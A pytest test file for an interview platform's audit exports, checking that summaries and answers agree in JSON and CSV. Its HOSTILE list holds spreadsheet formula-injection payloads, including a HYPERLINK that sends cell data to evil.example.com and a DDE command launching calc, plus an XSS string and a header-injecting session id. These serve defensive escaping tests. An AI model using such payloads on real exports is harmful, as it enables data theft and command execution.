"""The audit views: each field, in both forms, of interviews that ended in each way and of those that have not."""

import csv
import io
import json
import os
import re
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from pydantic import SecretStr

from app import create_app
from data_storage import DataStorage
from interviewer.audit.csv_text import BYTE_ORDER_MARK, csv_lines, escaped, unescaped
from interviewer.audit.rows import RESPONSE_COLUMNS, SUMMARY_COLUMNS
from interviewer.audit.scales import percent, score_of_percent
from interviewer.background import BackgroundTask
from interviewer.interview.scores import mean_score
from tests.conftest import JOB, STRONG, read_records, settings_for, until
from tests.llm_setup import llm_client
from tests.stand_in_llm import StandIn
from tests.token_issuer import SECRET, signed

Json = dict[str, Any]
Rows = list[Json]

TOKEN = "a-token-of-some-length"
STATES = ("automatic", "manually_ended", "timeout_cleanup", "in_progress", "awaiting_evaluation", "abandoned")
SIGNS = "=+-@＝＋－＠"
HOSTILE = (
    '=HYPERLINK("http://evil.example.com?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    " \t\r\n=1+1 and more",
    "＝1+1 in full width",
    "'=1+1",
    'Line one, "quoted";\r\nline two\nline three\rend \U0001f600 \u0000 é 日本',
    "<script>alert(1)</script>",
)


def start(client: FlaskClient, **fields: Any) -> str:
    response = client.post("/api/start-interview", json={"job_description": JOB} | fields)
    assert response.status_code == 201, response.text
    return str(response.get_json()["session_id"])


def answer(client: FlaskClient, session_id: str, text: str = STRONG, **fields: Any) -> Json:
    response = client.post("/api/submit-answer", json={"session_id": session_id, "answer": text} | fields)
    assert response.status_code == 200, response.text
    reply: Json = response.get_json()
    return reply


def close_idle(data_dir: Path, session_id: str) -> None:
    """What the server's sweeper does once an interview is idle."""
    tasks: list[BackgroundTask] = create_app(settings_for(data_dir, session_timeout=0)).extensions["background"]
    tasks[0].start()
    try:
        until(lambda: session_id in [record["session_id"] for record in read_records(data_dir, "interviews")])
    finally:
        tasks[0].end_soon()
        tasks[0].join(20)


class Audited:
    """A folder with one interview in each state, and a client on it."""

    def __init__(self, data_dir: Path) -> None:
        self.data_dir = data_dir
        self.client = create_app(settings_for(data_dir)).test_client()
        self.ids = {"timeout_cleanup": start(self.client, total_questions=3)}
        answer(self.client, self.ids["timeout_cleanup"])
        close_idle(data_dir, self.ids["timeout_cleanup"])
        self.ids["automatic"] = start(self.client, total_questions=2, candidate_name="Ada")
        self.as_if_begun_earlier("automatic")
        answer(self.client, self.ids["automatic"], code_submission="def f():\n    return 1\n", code_language="python")
        self.ask_hint("automatic")
        answer(self.client, self.ids["automatic"], "I don't know.")
        self.ids["manually_ended"] = start(self.client, total_questions=3)
        answer(self.client, self.ids["manually_ended"])
        self.client.post("/api/end-interview", json={"session_id": self.ids["manually_ended"]})
        self.ids["in_progress"] = start(self.client, total_questions=4)
        self.as_if_begun_earlier("in_progress")
        answer(self.client, self.ids["in_progress"])
        self.ask_hint("in_progress")
        answer(self.client, self.ids["in_progress"], "Because it is fast.")
        self.ids["abandoned"] = start(self.client)
        self.client.post("/api/end-interview", json={"session_id": self.ids["abandoned"]})
        with StandIn() as model:
            of_llm = llm_client(data_dir, model)
            self.ids["awaiting_evaluation"] = start(of_llm, total_questions=2)
            answer(of_llm, self.ids["awaiting_evaluation"])
            model.stop()
            answer(of_llm, self.ids["awaiting_evaluation"], "A thought of mine.")

    def as_if_begun_earlier(self, state: str) -> None:
        """Nobody waits here: the start lies 100 s back, the first question 90 s."""
        live = self.live(state)
        live["started_at"] = (datetime.fromisoformat(live["started_at"]) - timedelta(seconds=100)).isoformat()
        asked_at = datetime.fromisoformat(live["turns"][0]["asked_at"]) - timedelta(seconds=90)
        live["turns"][0]["asked_at"] = asked_at.isoformat()
        path = self.data_dir / "in_progress" / f"{self.ids[state]}.json"
        path.write_text(json.dumps(live), encoding="utf-8")

    def ask_hint(self, state: str) -> None:
        response = self.client.post("/api/request-hint", json={"session_id": self.ids[state]})
        assert response.status_code == 200, response.text

    def live(self, state: str) -> Json:
        """An unfinished interview as it lies on disk."""
        path = self.data_dir / "in_progress" / f"{self.ids[state]}.json"
        found: Json = json.loads(path.read_text(encoding="utf-8"))
        return found

    def report(self, state: str) -> Json:
        found: Json = self.client.get(f"/api/data/interview/{self.ids[state]}").get_json()
        return found

    def row(self, state: str) -> Json:
        rows = summary(self.client)
        (row,) = [row for row in rows if row["session_id"] == self.ids[state]]
        return row


@pytest.fixture(scope="module")
def audited(tmp_path_factory: pytest.TempPathFactory) -> Audited:
    """Made once: no test below changes it."""
    return Audited(tmp_path_factory.mktemp("audited"))


def get(client: FlaskClient, path: str, **query: Any) -> str:
    response = client.get(path, query_string=query)
    assert response.status_code == 200, response.text
    return str(response.get_data(as_text=True))


def summary(client: FlaskClient, **query: Any) -> Rows:
    rows: Rows = json.loads(get(client, "/api/data/summary", **query))["interview_summary"]
    return rows


def responses(client: FlaskClient, session_id: str) -> Rows:
    rows: Rows = json.loads(get(client, f"/api/data/interview/{session_id}/responses"))["question_responses"]
    return rows


def read_csv(text: str) -> tuple[tuple[str, ...], list[list[str]]]:
    """(header, rows) as an outside program reads them."""
    assert text.startswith(BYTE_ORDER_MARK)
    header, *rows = csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""), strict=True)
    return tuple(header), rows


def as_cell(value: Any) -> str:
    """What the CSV says for a value of the JSON form."""
    if isinstance(value, str):
        return escaped(value)
    if isinstance(value, list | dict):
        return json.dumps(value, ensure_ascii=False)
    return "" if value is None else str(value)


def of_100(score: float) -> int:
    """A score of one decimal, of 100."""
    return int(f"{score:.1f}".replace(".", ""))


@pytest.mark.parametrize("state", ["automatic", "manually_ended", "timeout_cleanup"])
def test_each_field_of_the_summary_of_a_finished_interview(audited: Audited, state: str) -> None:
    report, row = audited.report(state), audited.row(state)
    answered = {"automatic": 2, "manually_ended": 1, "timeout_cleanup": 1}[state]
    expected = {
        "session_id": audited.ids[state],
        "user_id": None,
        "interview_type": "job",
        "status": "completed",
        "topics": report["topics"],
        "total_questions": 2 if state == "automatic" else 3,
        "completed_questions": answered,
        "current_question_index": answered,
        "average_score": of_100(report["average_score"]),
        "individual_scores": [of_100(score) for score in report["individual_scores"]],
        "start_time": report["started_at"],
        "end_time": report["ended_at"],
        "duration": report["duration"],
        "completion_method": state,
        "created_at": report["created_at"],
        "updated_at": report["updated_at"],
        "final_results": {
            "summary": report["summary"],
            "strengths": report["strengths"],
            "weaknesses": report["weaknesses"],
            "recommendations": report["recommendations"],
            "overall_score": of_100(report["overall_score"]),
            "hire_recommendation": report["hire_recommendation"],
        },
        "export_status": None,  # no Google Sheets here; tests/test_sheets_service.py has it
        "export_error": None,
    }
    assert row == expected
    assert tuple(row) == SUMMARY_COLUMNS == tuple(expected)
    assert all(isinstance(mark, int) for mark in (row["average_score"], *row["individual_scores"]))
    assert row["topics"]
    assert row["final_results"]["summary"]


@pytest.mark.parametrize("state", ["in_progress", "awaiting_evaluation", "abandoned"])
def test_each_field_of_the_summary_of_an_unfinished_interview_as_it_is_now(audited: Audited, state: str) -> None:
    live, row = audited.live(state), audited.row(state)
    scores = [turn["evaluation"]["score"] for turn in live["turns"] if turn["evaluation"]]
    last_activity = datetime.fromisoformat(live["last_activity_at"])
    answered = {"in_progress": 2, "awaiting_evaluation": 2, "abandoned": 0}[state]
    assert len(scores) == {"in_progress": 2, "awaiting_evaluation": 1, "abandoned": 0}[state]
    expected = {
        "session_id": audited.ids[state],
        "user_id": None,
        "interview_type": "job",
        "status": state,
        "topics": live["topics"],
        "total_questions": {"in_progress": 4, "awaiting_evaluation": 2, "abandoned": 5}[state],
        "completed_questions": answered,
        "current_question_index": answered,
        "average_score": of_100(mean_score(scores)) if scores else None,
        "individual_scores": [of_100(score) for score in scores],
        "start_time": live["started_at"],
        "end_time": live["ended_at"],
        "duration": int((last_activity - datetime.fromisoformat(live["started_at"])).total_seconds()),
        "completion_method": {"in_progress": None, "awaiting_evaluation": "automatic", "abandoned": "manually_ended"}[
            state
        ],
        "created_at": live["started_at"],
        "updated_at": live["last_activity_at"],
        "final_results": None,
        "export_status": None,
        "export_error": None,
    }
    assert row == expected
    assert tuple(row) == SUMMARY_COLUMNS
    assert (row["end_time"] is None) == (state == "in_progress")


def test_the_current_question_counts_from_0_and_its_index_is_where_the_page_is(audited: Audited) -> None:
    view = audited.client.get(f"/api/interview/{audited.ids['in_progress']}").get_json()
    assert view["question_number"] == 3
    assert audited.row("in_progress")["current_question_index"] == 2


@pytest.mark.parametrize("state", ["automatic", "manually_ended", "timeout_cleanup"])
def test_each_field_of_the_responses_of_a_finished_interview(audited: Audited, state: str) -> None:
    session_id = audited.ids[state]
    stored = [record for record in read_records(audited.data_dir, "answers") if record["session_id"] == session_id]
    rows = responses(audited.client, session_id)
    items = audited.report(state)["questions_and_answers"]
    assert len(rows) == len(items) == len(stored)
    for number, (row, item, record) in enumerate(zip(rows, items, stored, strict=True), start=1):
        expected = {
            "session_id": session_id,
            "question_index": number,
            "question_text": item["question"],
            "user_response": item["answer"],
            "code_submission": item["code_submission"],
            "score": of_100(item["score"]),
            "feedback": row["feedback"],
            "time_taken": item["time_taken"],
            "hints_used": item["hints_used"],
            "difficulty": item["difficulty"],
            "created_at": record["timestamp"],
        }
        assert row == expected
        assert tuple(row) == RESPONSE_COLUMNS == tuple(expected)
        assert isinstance(row["score"], int)
        for sentence in (*item["feedback"]["strengths"], *item["feedback"]["improvements"]):
            assert sentence in row["feedback"]
    if state == "automatic":
        assert rows[0]["code_submission"] == "def f():\n    return 1\n"
        assert rows[0]["feedback"].startswith("Strengths: ")
        assert "Improvements: " in rows[1]["feedback"]


@pytest.mark.parametrize("state", ["in_progress", "awaiting_evaluation", "abandoned"])
def test_each_field_of_the_responses_of_an_unfinished_interview(audited: Audited, state: str) -> None:
    rows = responses(audited.client, audited.ids[state])
    turns = [turn for turn in audited.live(state)["turns"] if turn["answer"]]
    assert len(rows) == len(turns) == {"in_progress": 2, "awaiting_evaluation": 2, "abandoned": 0}[state]
    for number, (row, turn) in enumerate(zip(rows, turns, strict=True), start=1):
        verdict = turn["evaluation"]
        expected = {
            "session_id": audited.ids[state],
            "question_index": number,
            "question_text": turn["question"]["text"],
            "user_response": turn["answer"]["text"],
            "code_submission": None,
            "score": of_100(verdict["score"]) if verdict else None,
            "feedback": row["feedback"],
            "time_taken": row["time_taken"],
            "hints_used": turn["hints_used"],
            "difficulty": turn["question"]["difficulty"],
            "created_at": turn["answer"]["received_at"],
        }
        assert row == expected
        assert tuple(row) == RESPONSE_COLUMNS
        assert isinstance(row["time_taken"], int)
        assert (row["feedback"] is None) == (verdict is None)
    if state == "awaiting_evaluation":
        assert [row["score"] is None for row in rows] == [False, True]


@pytest.mark.parametrize("state", ["automatic", "in_progress"])
def test_hints_and_seconds_are_those_of_each_question(audited: Audited, state: str) -> None:
    first, second = responses(audited.client, audited.ids[state])
    assert (first["hints_used"], second["hints_used"]) == (0, 1)
    assert 90 <= first["time_taken"] < 150
    assert second["time_taken"] < 60
    assert 100 <= audited.row(state)["duration"] < 160


def test_an_answer_keeps_its_row_when_the_interview_ends(client: FlaskClient) -> None:
    session_id = start(client, total_questions=2)
    answer(client, session_id)
    before = responses(client, session_id)
    client.post("/api/end-interview", json={"session_id": session_id})
    assert responses(client, session_id) == before


def test_the_summary_as_csv_says_what_the_json_says(audited: Audited) -> None:
    header, rows = read_csv(get(audited.client, "/api/data/summary", format="csv"))
    found = summary(audited.client, format="json")
    assert header == SUMMARY_COLUMNS
    assert rows == [[as_cell(value) for value in row.values()] for row in found]
    assert {dict(zip(header, row, strict=True))["session_id"] for row in rows} == set(audited.ids.values())
    (cells,) = [dict(zip(header, row, strict=True)) for row in rows if row[0] == audited.ids["automatic"]]
    assert json.loads(cells["final_results"]) == audited.row("automatic")["final_results"]
    assert json.loads(cells["topics"]) == audited.row("automatic")["topics"]
    assert json.loads(cells["individual_scores"]) == audited.row("automatic")["individual_scores"]
    assert cells["user_id"] == ""


@pytest.mark.parametrize("state", STATES)
def test_the_responses_as_csv_say_what_the_json_says(audited: Audited, state: str) -> None:
    session_id = audited.ids[state]
    header, rows = read_csv(get(audited.client, f"/api/data/interview/{session_id}/responses", format="csv"))
    assert header == RESPONSE_COLUMNS
    assert rows == [[as_cell(value) for value in row.values()] for row in responses(audited.client, session_id)]


def test_the_csv_is_a_download_with_a_name_and_the_json_is_not(audited: Audited) -> None:
    session_id = audited.ids["automatic"]
    for path, name in (
        ("/api/data/summary", "interview_summary.csv"),
        (f"/api/data/interview/{session_id}/responses", f"question_responses-{session_id}.csv"),
    ):
        response = audited.client.get(f"{path}?format=csv")
        assert response.content_type == "text/csv; charset=utf-8; header=present"
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert response.headers["Cache-Control"] == "no-store"
        plain = audited.client.get(path)
        assert plain.content_type == "application/json"
        assert "Content-Disposition" not in plain.headers


def test_an_id_that_a_script_made_up_makes_no_harmful_file_name(client: FlaskClient, data_dir: Path) -> None:
    DataStorage(data_dir).save_interview_session({"session_id": 'a"; é\r\nX: y'})
    response = client.get("/api/data/interview/a%22;%20%C3%A9%0D%0AX:%20y/responses?format=csv")
    assert re.fullmatch(
        r'attachment; filename="question_responses-[\w-]+\.csv"', response.headers["Content-Disposition"]
    )
    assert "X" not in response.headers


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_survives_and_no_cell_of_it_is_a_formula(client: FlaskClient, text: str) -> None:
    session_id = start(client, total_questions=1, candidate_name=text)
    answer(client, session_id, text, code_submission=text)
    header, (row,) = read_csv(get(client, f"/api/data/interview/{session_id}/responses", format="csv"))
    cells = dict(zip(header, row, strict=True))
    for name in ("user_response", "code_submission"):
        assert cells[name].strip()[0] not in SIGNS
        assert unescaped(cells[name]) == text
    (found,) = responses(client, session_id)
    assert (found["user_response"], found["code_submission"]) == (text, text)  # JSON needs no escape
    for line in read_csv(get(client, "/api/data/summary", format="csv"))[1]:
        assert not any(cell.strip().startswith(tuple(SIGNS)) for cell in line)


def test_numbers_stay_numbers(audited: Audited) -> None:
    header, rows = read_csv(get(audited.client, "/api/data/summary", format="csv"))
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        for name in ("total_questions", "completed_questions", "current_question_index", "duration"):
            assert cells[name].isdecimal()
        assert cells["average_score"].isdecimal() or cells["average_score"] == ""


@given(st.lists(st.tuples(st.text(), st.text(), st.integers(0, 10**6) | st.none()), max_size=5))
def test_any_text_survives_the_csv_and_no_cell_begins_as_a_formula(
    given_rows: list[tuple[str, str, int | None]],
) -> None:
    columns = ("one", "two", "number")
    text = "".join(csv_lines(columns, [dict(zip(columns, row, strict=True)) for row in given_rows]))
    header, rows = read_csv(text.encode().decode("utf-8"))
    assert header == columns
    back = [(unescaped(one), unescaped(two), int(number) if number else None) for one, two, number in rows]
    assert back == given_rows
    for row in rows:
        assert not any(cell.strip("\0\ufeff\u200b \t\r\n\xa0").startswith(tuple(SIGNS)) for cell in row)


@given(st.text(alphabet=" \t\r\n\0\ufeff\u200b'=+-@＝a1"))
def test_escaping_can_be_undone_and_is_done_only_where_it_is_needed(text: str) -> None:
    assert unescaped(escaped(text)) == text
    assert escaped(text) in (text, f"'{text}")
    if not any(sign in text for sign in SIGNS):
        assert escaped(text) == text


@pytest.mark.parametrize(
    ("score", "of_hundred"),
    [(0, 0), (10, 100), (7.2, 72), (0.1, 1), (7.25, 73), (0.05, 1), (2.449, 24), (9.95, 100), (6.349999, 63)]
    + [(value, None) for value in (None, True, "7", 10.5, -1, float("nan"), float("inf"))],
)
def test_a_score_becomes_a_whole_number_of_100_rounded_half_up(score: Any, of_hundred: int | None) -> None:
    assert percent(score) == of_hundred


@given(st.integers(0, 100))
def test_a_whole_number_of_100_survives_the_way_there_and_back(rating: int) -> None:
    assert percent(score_of_percent(rating)) == rating


@pytest.mark.parametrize("rating", [-1, 101])
def test_what_is_not_of_100_is_no_score(rating: int) -> None:
    with pytest.raises(ValueError, match="between 0 and 100"):
        score_of_percent(rating)


@pytest.mark.parametrize("status", ["all", "completed", "in_progress", "awaiting_evaluation", "abandoned"])
def test_the_summary_filters_by_status(audited: Audited, status: str) -> None:
    finished = ["timeout_cleanup", "automatic", "manually_ended"]  # in the order in which they ended
    states = {"completed": finished, "all": [*finished, "in_progress", "abandoned", "awaiting_evaluation"]}
    found = [row["session_id"] for row in summary(audited.client, status=status)]
    assert found == [audited.ids[state] for state in states.get(status, [status])]


def test_the_summary_pages_and_counts_all(audited: Audited) -> None:
    ids = [row["session_id"] for row in summary(audited.client)]
    for offset, limit in ((0, 2), (2, 3), (5, 5), (9, 1), (0, 0)):
        reply = json.loads(get(audited.client, "/api/data/summary", limit=limit, offset=offset))
        assert [row["session_id"] for row in reply["interview_summary"]] == ids[offset : offset + limit]
        assert reply["total"] == len(ids) == len(STATES)
    _, rows = read_csv(get(audited.client, "/api/data/summary", limit=2, offset=1, format="csv"))
    assert [row[0] for row in rows] == ids[1:3]


def test_the_summary_filters_by_time_as_the_listing_does(audited: Audited) -> None:
    middle = audited.report("automatic")["timestamp"]
    for query in ({"from": middle}, {"to": middle}, {"from": middle, "to": middle}, {"from": "2999-01-01"}):
        listed = audited.client.get("/api/data/interviews", query_string=query | {"status": "all"}).get_json()
        assert [row["session_id"] for row in summary(audited.client, **query)] == [
            interview["session_id"] for interview in listed["interviews"]
        ]


def test_an_empty_folder_has_empty_views(client: FlaskClient) -> None:
    assert json.loads(get(client, "/api/data/summary")) == {"interview_summary": [], "total": 0}
    assert read_csv(get(client, "/api/data/summary", format="csv")) == (SUMMARY_COLUMNS, [])


@pytest.fixture
def of_users(data_dir: Path) -> tuple[FlaskClient, dict[str, list[str]]]:
    """A client of the hiring team, and the ids of the interviews of each user: one finished, one live."""
    settings = settings_for(data_dir, jwt_secret=SecretStr(SECRET), api_token=SecretStr(TOKEN))
    app = create_app(settings)
    ids: dict[str, list[str]] = {}
    for user in ("user-1", "user-2"):
        candidate = app.test_client()
        candidate.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {signed(subject=user)}"
        ids[user] = [start(candidate, total_questions=1), start(candidate, total_questions=2)]
        answer(candidate, ids[user][0])
    team = app.test_client()
    team.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {TOKEN}"
    return team, ids


def test_listing_and_summary_filter_by_user(of_users: tuple[FlaskClient, dict[str, list[str]]]) -> None:
    team, ids = of_users
    for user, (finished, live) in ids.items():
        rows = summary(team, user_id=user)
        assert [(row["session_id"], row["user_id"]) for row in rows] == [(finished, user), (live, user)]
        listed = team.get("/api/data/interviews", query_string={"user_id": user}).get_json()
        assert [interview["session_id"] for interview in listed["interviews"]] == [finished]
        assert listed["total"] == 1
        listed = team.get("/api/data/interviews", query_string={"user_id": user, "status": "all"}).get_json()
        assert [interview["session_id"] for interview in listed["interviews"]] == [finished, live]
    assert summary(team, user_id="user-3") == summary(team, user_id="") == []
    assert len(summary(team)) == 4


def test_an_unknown_interview_has_no_responses(client: FlaskClient) -> None:
    for session_id in ("zzzzzzzz", "nothing-like-an-id", "..", "%00"):
        for form in ("json", "csv"):
            response = client.get(f"/api/data/interview/{session_id}/responses?format={form}")
            assert response.status_code == 404
            assert response.content_type == "application/problem+json"


@pytest.mark.parametrize("path", ["/api/data/summary", "/api/data/interview/zzzzzzzz/responses"])
@pytest.mark.parametrize("query", ["format=xml", "format=", "format=CSV", "sort=duration", "q=a"])
def test_an_unknown_form_or_parameter_is_refused_by_name(client: FlaskClient, path: str, query: str) -> None:
    response = client.get(f"{path}?{query}")
    assert response.status_code == 422
    assert [fault["field"] for fault in response.get_json()["errors"]] == [query.partition("=")[0]]


@pytest.mark.parametrize("path", ["/api/data/summary", "/api/data/interview/zzzzzzzz/responses"])
def test_with_a_token_set_both_views_ask_for_it_in_both_forms(data_dir: Path, path: str) -> None:
    client = create_app(settings_for(data_dir, api_token=SecretStr(TOKEN))).test_client()
    for form in ("json", "csv"):
        refused = client.get(f"{path}?format={form}")
        assert (refused.status_code, refused.headers["WWW-Authenticate"]) == (401, "Bearer")
        given_token = client.get(f"{path}?format={form}", headers={"Authorization": f"Bearer {TOKEN}"})
        assert given_token.status_code in (200, 404)


def test_records_with_little_in_them_have_rows_with_nulls(client: FlaskClient, data_dir: Path) -> None:
    storage = DataStorage(data_dir)
    storage.save_interview_session({"session_id": "handmade", "average_score": 6.0})
    storage.save_interview_session(
        {
            "session_id": "partly00",
            "questions_and_answers": [{"question_number": 1, "score": 77, "feedback": "Fine."}, {}],
        }
    )
    row, other = summary(client)
    assert (row["session_id"], row["status"], row["average_score"]) == ("handmade", "completed", 60)
    assert all(row[name] is None for name in ("user_id", "current_question_index", "start_time", "final_results"))
    assert other["individual_scores"] == []
    assert responses(client, "handmade") == []
    first, second = responses(client, "partly00")
    assert (first["score"], first["feedback"], first["created_at"]) == (None, "Fine.", None)
    assert second["question_index"] is None
    assert len(read_csv(get(client, "/api/data/summary", format="csv"))[1]) == 2


def test_many_interviews_are_sent_in_pieces_each_row_whole(client: FlaskClient, data_dir: Path) -> None:
    storage = DataStorage(data_dir)
    for number in range(300):
        storage.save_interview_session({"session_id": f"{number:08d}", "summary": "A long summary. " * 100})
    response = client.get("/api/data/summary", buffered=False)
    assert len(list(response.iter_encoded())) > 3
    response.close()
    assert [row["session_id"] for row in summary(client)] == [f"{number:08d}" for number in range(300)]
    assert len(read_csv(get(client, "/api/data/summary", format="csv"))[1]) == 300


def test_a_reader_that_goes_away_leaves_no_file_open(client: FlaskClient, data_dir: Path) -> None:
    storage = DataStorage(data_dir)
    for number in range(100):
        storage.save_interview_session({"session_id": f"{number:08d}", "summary": "A long summary. " * 100})
    for form in ("json", "csv"):
        response = client.get(f"/api/data/summary?format={form}", buffered=False)
        next(iter(response.iter_encoded()))
        assert is_open(data_dir / "interviews.json")
        response.close()
        assert not is_open(data_dir / "interviews.json")


def is_open(path: Path) -> bool:
    """Whether this process reads the file."""
    descriptors = Path("/proc/self/fd").iterdir()
    return path.resolve() in [Path(os.path.realpath(descriptor)) for descriptor in descriptors]


def test_the_schema_describes_both_forms(client: FlaskClient) -> None:
    api = client.get("/openapi.json").get_json()
    for path, model, columns in (
        ("/api/data/summary", "SummaryRow", SUMMARY_COLUMNS),
        ("/api/data/interview/{session_id}/responses", "ResponseRow", RESPONSE_COLUMNS),
    ):
        call = api["paths"][path]["get"]
        assert set(call["responses"]["200"]["content"]) == {"application/json", "text/csv"}
        assert call["responses"]["200"]["content"]["text/csv"]["schema"]["type"] == "string"
        assert tuple(api["components"]["schemas"][model]["properties"]) == columns
        (form,) = [parameter for parameter in call["parameters"] if parameter["name"] == "format"]
        assert (form["schema"]["enum"], form["schema"]["default"]) == (["json", "csv"], "json")


def test_a_summary_of_a_folder_that_cannot_be_read_is_a_503_not_half_a_table(
    client: FlaskClient, data_dir: Path, begin: Callable[..., Json]
) -> None:
    begin()
    path = data_dir / "in_progress" / "zzzzzzzz.json"
    path.symlink_to(path)  # reading it is an error of the disk, not a missing file
    for form in ("json", "csv"):
        assert client.get(f"/api/data/summary?format={form}").status_code == 503
